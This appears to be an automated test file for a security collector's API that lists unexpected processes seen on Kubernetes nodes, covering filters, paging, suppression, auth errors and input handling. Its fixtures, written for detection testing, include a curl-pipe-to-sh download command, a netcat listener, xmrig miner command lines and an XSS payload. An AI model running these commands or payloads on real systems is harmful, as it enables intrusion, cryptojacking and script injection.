// GET /api/v1/processes/unexpected against a real collector, fed the agent's own
// proc-unexpected findings (agent/processes/findings.ts builds them) over mTLS gRPC.
import test from 'ava';
import { hostKeyOf, LEGACY_HOST_KEY, processSubject, workloadKeyOf } from '../../proto/baseline-key.js';
import { ADMIN_TOKEN, READER_TOKEN, startTestCollector, type TestCollector } from '../helpers/collector.js';
import { api, connect, fp, ok, result, withCollector, type Session } from '../helpers/agent-session.js';
import { asDetailJson, unexpectedProcess } from '../helpers/process-finding.js';

const HOUR = 3600_000;
const NOW = Date.now();
const T0 = NOW - 3 * HOUR;
const T1 = NOW - HOUR;
const CID = 'c'.repeat(64);
const DOCKER_ID = 'd'.repeat(64);

const WEB = workloadKeyOf({ namespace: 'shop', kind: 'Deployment', name: 'web', container: 'nginx' });
const DB = workloadKeyOf({ namespace: 'data', kind: 'StatefulSet', name: 'db', container: 'postgres' });
const CRON = workloadKeyOf({ namespace: 'shop', kind: 'CronJob', name: 'web', container: 'job' });
const HOST = hostKeyOf('worker');
const CP_HOST = hostKeyOf('control-plane');

const proc = unexpectedProcess;

let tc: TestCollector;

/** The same picture for every read-only test: two nodes, six rows, one repeat. */
async function seed(c: TestCollector): Promise<{ a: Session; b: Session }> {
  const a = await connect(c, 'node-a');
  const b = await connect(c, 'node-b');
  await a.scan(NOW, ['cis-4.2.1'], [result('cis-4.2.1', '--anonymous-auth', 'fail')]);
  await a.batch([
    proc(WEB, '/tmp/xmrig', T0, 3, { cmdline: '/tmp/xmrig --donate-level 1 -o pool.example:3333' }),
    proc(HOST, '/usr/bin/nc', T0, 1, { pid: 777, ppid: 1, cmdline: 'nc -lvp 4444', seen: 'scan' }),
  ]);
  await b.batch([
    proc(WEB, '/tmp/xmrig', T1),
    proc(DB, '/usr/bin/curl', T1, 1, { cmdline: 'curl -s http://10.0.0.9/x | sh' }),
    proc(`container:${DOCKER_ID}`, '/bin/bash', T1, 1, { container: { id: DOCKER_ID, name: 'adhoc', runtime: 'docker' }, namespace: '', pod: '', workload: null }),
    proc(CRON, '/bin/sh', T1),
  ]);
  // The same process again on node-a, later: the same row, its count grows, the detail is the latest.
  await a.batch([proc(WEB, '/tmp/xmrig', T1, 2, { pid: 5151, ppid: 5100, seen: 'scan', cmdline: '/tmp/xmrig -o pool.example:443' })]);
  return { a, b };
}

test.before(async () => {
  tc = await startTestCollector({ nodes: ['node-a', 'node-b'] });
  await seed(tc);
});
test.after.always(() => tc?.close());

const rows = async (query = ''): Promise<any[]> => (await ok<{ items: any[] }>(tc, `/api/v1/processes/unexpected${query ? `?${query}` : ''}`)).items;
const keys = (items: any[]): string[] => items.map((r) => `${r.node} ${r.baseline}:${r.executable}`);

test('one row per node, baseline and executable, with the process the agent last reported', async (t) => {
  const items = await rows();
  t.deepEqual(keys(items), [
    `node-a ${WEB}:/tmp/xmrig`,
    'node-a host/worker:/usr/bin/nc',
    `node-b ${WEB}:/tmp/xmrig`,
    `node-b ${DB}:/usr/bin/curl`,
    `node-b container:${DOCKER_ID}:/bin/bash`,
    `node-b ${CRON}:/bin/sh`,
  ], 'oldest first; the scan failure is no process');
  t.deepEqual(items[0], {
    id: fp('node-a', 'proc-unexpected', processSubject(WEB, '/tmp/xmrig')),
    node: 'node-a', state: 'open', severity: 'high', baseline: WEB, executable: '/tmp/xmrig', exeDeleted: false,
    namespace: 'shop', workload: 'Deployment/web', container: 'nginx', containerId: CID, pod: 'web-7d4b9c8f6d-x2kzq',
    pid: 5151, user: '101', cmdline: '/tmp/xmrig -o pool.example:443', parents: ['/bin/sh', '/usr/sbin/nginx'],
    seen: 'scan', partial: false, firstSeen: new Date(T0).toISOString(), lastSeen: new Date(T1).toISOString(), count: 5,
    cluster: 'local', clusterUid: '',
  });
  t.like(items[1], {
    baseline: HOST, executable: '/usr/bin/nc', namespace: '', workload: '', container: '', containerId: '', pod: '',
    pid: 777, user: 'root', cmdline: 'nc -lvp 4444', parents: ['/usr/lib/systemd/systemd'], seen: 'scan', count: 1,
  });
  t.like(items[4], { namespace: '', workload: '', container: 'adhoc', containerId: DOCKER_ID, seen: 'event' });
  // The row is the finding: its id opens it.
  t.is((await ok(tc, `/api/v1/findings/${items[0].id}`)).checkId, 'proc-unexpected');
});

test('filters: node, namespace, workload (Kind/name or name), since, and together', async (t) => {
  t.deepEqual(keys(await rows('node=node-a')), [`node-a ${WEB}:/tmp/xmrig`, 'node-a host/worker:/usr/bin/nc']);
  t.deepEqual(keys(await rows('namespace=shop')), [`node-a ${WEB}:/tmp/xmrig`, `node-b ${WEB}:/tmp/xmrig`, `node-b ${CRON}:/bin/sh`]);
  t.deepEqual(keys(await rows('namespace=data')), [`node-b ${DB}:/usr/bin/curl`]);
  t.deepEqual(keys(await rows('namespace=sho')), [], 'a namespace is matched whole');
  t.deepEqual(keys(await rows('workload=Deployment/web')), [`node-a ${WEB}:/tmp/xmrig`, `node-b ${WEB}:/tmp/xmrig`]);
  t.deepEqual(keys(await rows('workload=web')), [`node-a ${WEB}:/tmp/xmrig`, `node-b ${WEB}:/tmp/xmrig`, `node-b ${CRON}:/bin/sh`], 'a name of any kind');
  t.deepEqual(keys(await rows('workload=nginx')), [], 'a container name is not a workload');
  t.deepEqual(keys(await rows('workload=Deployment')), [], 'nor is a kind');
  t.deepEqual(keys(await rows('workload=StatefulSet/db&namespace=shop')), []);
  t.deepEqual(keys(await rows('workload=StatefulSet/db&namespace=data&node=node-b')), [`node-b ${DB}:/usr/bin/curl`]);
  t.deepEqual(keys(await rows('node=node-b&workload=Deployment/web')), [`node-b ${WEB}:/tmp/xmrig`]);
  const since = encodeURIComponent(new Date(T0 + HOUR).toISOString());
  t.deepEqual(keys(await rows(`since=${since}&node=node-a`)), [`node-a ${WEB}:/tmp/xmrig`], 'the host process was last seen before');
  t.is((await rows(`since=${since}`)).length, 5);
  t.deepEqual(await rows('node=node-c'), []);
});

test('host processes by node role, and the legacy `host` of older agents, parse into rows; a namespace named host matches only its workloads', (t) => withCollector(async (c) => {
  const cp = await connect(c, 'node-a');
  const old = await connect(c, 'node-b');
  const IN_HOST_NS = workloadKeyOf({ namespace: 'host', kind: 'Deployment', name: 'worker', container: 'app' });
  await cp.batch([
    proc(CP_HOST, '/usr/bin/kubeadm', T0, 1, { pid: 31, cmdline: 'kubeadm certs renew all' }),
    proc(CP_HOST, '/opt/odd:name', T0),
  ]);
  await old.batch([proc(LEGACY_HOST_KEY, '/usr/bin/nc', T1), proc(IN_HOST_NS, '/bin/sh', T1)]);
  const items = (await ok<{ items: any[] }>(c, '/api/v1/processes/unexpected')).items;
  t.deepEqual(keys(items), [
    'node-a host/control-plane:/usr/bin/kubeadm', 'node-a host/control-plane:/opt/odd:name',
    'node-b host:/usr/bin/nc', `node-b ${IN_HOST_NS}:/bin/sh`,
  ]);
  t.like(items[0], {
    id: fp('node-a', 'proc-unexpected', processSubject(CP_HOST, '/usr/bin/kubeadm')), baseline: CP_HOST, executable: '/usr/bin/kubeadm',
    namespace: '', workload: '', container: '', containerId: '', pod: '', pid: 31, user: 'root', cmdline: 'kubeadm certs renew all',
  });
  t.like(items[1], { baseline: CP_HOST, executable: '/opt/odd:name' }, 'the key ends at the first colon');
  t.like(items[2], { baseline: LEGACY_HOST_KEY, executable: '/usr/bin/nc', namespace: '', workload: '' });
  t.like(items[3], { baseline: IN_HOST_NS, namespace: 'host', workload: 'Deployment/worker', container: 'app' });
  const list = async (q: string) => keys((await ok<{ items: any[] }>(c, `/api/v1/processes/unexpected?${q}`)).items);
  t.deepEqual(await list('namespace=host'), [`node-b ${IN_HOST_NS}:/bin/sh`], 'host keys are in no namespace');
  t.deepEqual(await list('workload=worker'), [`node-b ${IN_HOST_NS}:/bin/sh`], 'nor are they workloads');
  t.deepEqual(await list('workload=control-plane'), []);
}));

test('pages with an opaque cursor neither skip nor repeat a row while new ones arrive', (t) => withCollector(async (c) => {
  const { b } = await seed(c);
  const seen: string[] = [];
  let cursor: string | null = null;
  let pages = 0;
  do {
    const page: { items: any[]; nextCursor: string | null } = await ok(c, `/api/v1/processes/unexpected?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
    t.true(page.items.length <= 2);
    seen.push(...keys(page.items));
    cursor = page.nextCursor;
    if (++pages === 1) await b.batch([proc(DB, '/tmp/late', NOW)]);
  } while (cursor);
  t.is(pages, 4);
  t.deepEqual(seen, [
    `node-a ${WEB}:/tmp/xmrig`, 'node-a host/worker:/usr/bin/nc', `node-b ${WEB}:/tmp/xmrig`, `node-b ${DB}:/usr/bin/curl`,
    `node-b container:${DOCKER_ID}:/bin/bash`, `node-b ${CRON}:/bin/sh`, `node-b ${DB}:/tmp/late`,
  ]);
}));

test('state: open by default; suppressed and resolved rows on request; a reader may read but not suppress', (t) => withCollector(async (c) => {
  await seed(c);
  const list = async (q: string) => keys((await ok<{ items: any[] }>(c, `/api/v1/processes/unexpected?${q}`)).items);
  const nc = fp('node-a', 'proc-unexpected', processSubject(HOST, '/usr/bin/nc'));
  const denied = await api(c, `/api/v1/findings/${nc}/suppress`, { method: 'POST', token: READER_TOKEN, body: { reason: 'admin tooling' } });
  t.is(denied.status, 403);
  const sup = await api(c, `/api/v1/findings/${nc}/suppress`, { method: 'POST', token: ADMIN_TOKEN, body: { reason: 'admin tooling' } });
  t.is(sup.status, 200, sup.text);
  // Allowing an executable resolves its findings on every node (what central baselines do).
  await c.collector.pipeline!.resolveSubjects(['proc-unexpected'], [processSubject(WEB, '/tmp/xmrig')], 'allowed');
  t.deepEqual(await list('state=open'), [`node-b ${DB}:/usr/bin/curl`, `node-b container:${DOCKER_ID}:/bin/bash`, `node-b ${CRON}:/bin/sh`]);
  t.deepEqual(await list(''), await list('state=open'));
  t.deepEqual(await list('state=suppressed'), ['node-a host/worker:/usr/bin/nc']);
  const resolved = (await ok<{ items: any[] }>(c, '/api/v1/processes/unexpected?state=resolved')).items;
  t.deepEqual(keys(resolved), [`node-a ${WEB}:/tmp/xmrig`, `node-b ${WEB}:/tmp/xmrig`]);
  t.true(resolved.every((r) => r.state === 'resolved'));
}));

test('bad parameters get 400 naming the parameter; no token gets 401', async (t) => {
  const cases: Array<[string, RegExp]> = [
    ['node=', /parameter node/],
    ['node=' + 'n'.repeat(300), /parameter node/],
    ['namespace=Bad%2Fns', /parameter namespace/],
    ['namespace=%3Cscript%3E', /parameter namespace/],
    ['workload=a%2Fb%2Fc', /parameter workload/],
    ['workload=', /parameter workload/],
    ['state=closed', /parameter state must be one of: open, resolved, suppressed/],
    ['since=yesterday', /parameter since/],
    ['limit=0', /parameter limit/],
    ['limit=5000', /parameter limit/],
    ['limit=ten', /parameter limit/],
    ['cursor=not-a-cursor', /parameter cursor is not a cursor this API issued/],
    ['pod=x', /parameter pod is not known/],
  ];
  for (const [q, message] of cases) {
    const res = await api(tc, `/api/v1/processes/unexpected?${q}`);
    t.is(res.status, 400, q);
    t.regex(res.body.error, message, q);
  }
  t.is((await api(tc, '/api/v1/processes/unexpected', { token: null })).status, 401);
  t.is((await api(tc, '/api/v1/processes/unexpected', { token: 'not-the-token-0123456789' })).status, 401);
  t.is((await api(tc, '/api/v1/processes/unexpected', { token: READER_TOKEN })).status, 200, 'a reader may read');
  t.is((await api(tc, '/api/v1/processes/unexpected', { token: ADMIN_TOKEN })).status, 200);
});

test('the OpenAPI document describes the route, its filters and its rows', async (t) => {
  const doc = await ok<any>(tc, '/api/v1/openapi.json');
  const op = doc.paths['/api/v1/processes/unexpected']?.get;
  t.truthy(op);
  t.deepEqual(op.parameters.map((p: any) => p.name).sort(), ['cluster', 'cursor', 'limit', 'namespace', 'node', 'since', 'state', 'workload']);
  const row = op.responses['200'].content['application/json'].schema.properties.items.items;
  for (const field of ['node', 'baseline', 'executable', 'namespace', 'workload', 'container', 'pod', 'pid', 'user', 'cmdline', 'parents', 'seen', 'firstSeen', 'lastSeen', 'count']) {
    t.truthy(row.properties[field], field);
  }
});

test('what a node sent is returned as data, bounded, and never trusted for the row identity', (t) => withCollector(async (c) => {
  const a = await connect(c, 'node-a');
  const hostile = `<img src=x onerror=alert(1)> \\x1b[31m "quoted" & more`;
  const raw = proc(WEB, '/tmp/evil', NOW, 1, {
    cmdline: hostile,
    parents: [...Array.from({ length: 100 }, (_, i) => `/p${i}`)],
    user: '<b>root</b>',
  });
  // An agent 0.1.0 (or a hostile one) sends detail_json, which is any JSON object.
  const legacy = asDetailJson(raw);
  const odd = JSON.parse(legacy.detailJson ?? '{}');
  odd.pid = '12';
  odd.exe = '/somewhere/else';
  odd.parents.splice(1, 0, 42, null);
  await a.batch([{ ...legacy, detailJson: JSON.stringify(odd) }]);
  const [row] = (await ok<{ items: any[] }>(c, '/api/v1/processes/unexpected')).items;
  t.is(row.cmdline, hostile);
  t.is(row.user, '<b>root</b>');
  t.is(row.pid, null, 'a pid that is not a number is no pid');
  t.is(row.executable, '/tmp/evil', 'the executable is the one the finding is about');
  t.is(row.parents.length, 64);
  t.deepEqual(row.parents.slice(0, 3), ['/p0', '/p1', '/p2']);
}));
